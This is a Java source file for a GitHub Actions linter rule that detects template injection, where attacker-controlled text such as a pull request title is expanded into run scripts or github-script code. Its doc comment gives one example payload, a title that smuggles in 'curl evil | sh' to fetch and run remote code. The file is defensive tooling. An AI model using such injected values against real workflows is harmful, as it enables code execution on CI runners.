package dev.pipewright.lint.audit;

import dev.pipewright.github.Uses;
import dev.pipewright.lint.rule.Locator;

import dev.pipewright.lint.Fix;
import dev.pipewright.lint.LintContext;
import dev.pipewright.lint.Rule;
import dev.pipewright.lint.Severity;
import dev.pipewright.lint.Workflow;
import dev.pipewright.lint.yaml.YMap;
import dev.pipewright.lint.yaml.YScalar;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;

/**
 * Attacker-controlled text expanded by {@code ${{ }}} into a {@code run:} script or an {@code actions/github-script}
 * {@code script:}: the runner pastes the text into the script before the shell or node parses it, so a pull request
 * title such as {@code "; curl evil | sh #} runs as code.
 */
@Rule(id = "template-injection", summary = "untrusted contexts are not expanded into run scripts or github-script code",
        severity = Severity.ERROR, category = "security")
@Audit(severity = Audit.Level.HIGH, confidence = Audit.Confidence.HIGH, fixable = true)
public final class TemplateInjectionAudit extends AuditRule {
    /** One untrusted expansion: the scalar, the expression and the untrusted path it reads. */
    public record Injection(YScalar script, Exprs.Span span, String path, boolean run) {}

    /** The job whose workflow- and job-level env {@link #jobCarried} holds. */
    private YScalar carriedJob;
    private Map<String, String[]> jobCarried;

    /** The job whose steps are being visited, for the shell its defaults set. */
    private Workflow.Job job;

    @Override
    public void visitJob(Workflow.Job job) {
        this.job = job;
    }

    @Override
    public void visitStep(Workflow.Step step) {
        List<Injection> found = find(step.body());
        List<Injection> inRun = found.stream().filter(Injection::run).toList();
        reportAll(found, inRun.isEmpty() ? null : TemplateInjectionFix.of(ctx().offsets(), currentWorkflow(), job, step, inRun));
        checkEnv(step);
    }

    /**
     * {@code ${{ env.X }}} where X is set (in the workflow's, the job's or the step's {@code env:}, the innermost
     * winning) to attacker-controlled text: the expansion pastes that text into the script just the same. Not fixed by
     * {@code --fix}: the variable is already in the environment, the script only has to read it.
     */
    private void checkEnv(Workflow.Step step) {
        if (step.jobId() != carriedJob) {
            // The workflow's and the job's env: the same for every step of the job, so read once per job.
            Workflow wf = currentWorkflow();
            jobCarried = new HashMap<>();
            carry(wf.root().map("env"), jobCarried);
            carry(wf.job(step.jobId().value()).flatMap(j -> j.body().map("env")), jobCarried);
            carriedJob = step.jobId();
        }
        Optional<YMap> stepEnv = step.body().map("env");
        Map<String, String[]> carried = stepEnv.isPresent() ? new HashMap<>(jobCarried) : jobCarried;
        carry(stepEnv, carried);
        if (carried.isEmpty()) {
            return;
        }
        YMap body = step.body();
        body.scalar("run").filter(YScalar::isString).ifPresent(run -> reportEnv(run, true, carried));
        if (body.string("uses").flatMap(Uses::parse).map(u -> u.is("actions/github-script")).orElse(false)) {
            body.map("with").flatMap(w -> w.scalar("script")).filter(YScalar::isString).ifPresent(sc -> reportEnv(sc, false, carried));
        }
    }

    /** Adds an env layer's untrusted values to {@code carried}, and drops the names it sets to anything else. */
    private static void carry(Optional<YMap> layer, Map<String, String[]> carried) {
        layer.ifPresent(env -> env.entries().forEach(e -> {
            String name = e.key().value();
            String path = e.value() instanceof YScalar v && v.isString() ? untrusted(v.value()) : null;
            if (path == null) {
                carried.remove(name.toLowerCase(Locale.ROOT));
            } else {
                carried.put(name.toLowerCase(Locale.ROOT), new String[] {name, path});
            }
        }));
    }

    private void reportEnv(YScalar script, boolean run, Map<String, String[]> carried) {
        for (Exprs.Span span : Exprs.spans(script.value())) {
            if (span.ast() == null || Exprs.isBooleanValued(span.ast())
                    || Exprs.accesses(span.ast()).stream().anyMatch(Untrusted::isUntrusted)) {
                continue; // direct expansions are reported by check()
            }
            Exprs.accesses(span.ast()).stream().filter(a -> a.path().startsWith("env.")).map(a -> carried.get(a.path().substring(4)))
                    .filter(c -> c != null).findFirst().ifPresent(c -> report(Locator.at(ctx(), script, span.start()),
                            "\"" + span.whole(script.value()).strip() + "\" expands env." + c[0] + ", which carries attacker-controlled "
                            + c[1] + ", into the " + (run ? "run script" : "github-script code") + "; use "
                            + (run ? "\"$" + c[0] + "\"" : "process.env." + c[0]) + " instead"));
        }
    }

    /** The first attacker-controlled path a value expands (not as a boolean), or null. */
    private static String untrusted(String value) {
        for (Exprs.Span span : Exprs.spans(value)) {
            if (span.ast() != null && !Exprs.isBooleanValued(span.ast())) {
                var a = Exprs.accesses(span.ast()).stream().filter(Untrusted::isUntrusted).findFirst();
                if (a.isPresent()) {
                    return a.get().path();
                }
            }
        }
        return null;
    }

    @Override
    public void visitAction(LintContext.ActionFile action) {
        compositeSteps(action).forEach(step -> reportAll(find(step), null));
    }

    /** Reports each expansion; {@code runFix} (null: none) moves those in a run script, the github-script ones stay. */
    private void reportAll(List<Injection> found, Fix runFix) {
        for (Injection i : found) {
            String where = i.run() ? "run script" : "github-script code";
            report(Locator.at(ctx(), i.script(), i.span().start()), "\"" + i.span().whole(i.script().value()).strip()
                    + "\" expands attacker-controlled " + i.path() + " into the " + where + "; pass it through the step's"
                    + " env: (e.g. " + EnvName.of(i.path()) + ": ${{ " + i.span().text().strip() + " }}) and use the variable"
                    + (i.run() ? " (\"$" + EnvName.of(i.path()) + "\")" : " (process.env." + EnvName.of(i.path()) + ")"),
                    i.run() ? runFix : null);
        }
    }

    /** The untrusted expansions of a step, in source order. */
    public static List<Injection> find(YMap step) {
        List<Injection> out = new ArrayList<>();
        step.scalar("run").filter(YScalar::isString).ifPresent(run -> scan(run, true, out));
        boolean githubScript = step.string("uses").flatMap(Uses::parse).map(u -> u.is("actions/github-script")).orElse(false);
        if (githubScript) {
            step.map("with").flatMap(w -> w.scalar("script")).filter(YScalar::isString).ifPresent(s -> scan(s, false, out));
        }
        return out;
    }

    private static void scan(YScalar script, boolean run, List<Injection> out) {
        for (Exprs.Span span : Exprs.spans(script.value())) {
            if (span.ast() == null || Exprs.isBooleanValued(span.ast())) {
                continue;
            }
            Exprs.accesses(span.ast()).stream().filter(Untrusted::isUntrusted).findFirst()
                    .ifPresent(a -> out.add(new Injection(script, span, a.path(), run)));
        }
    }
}
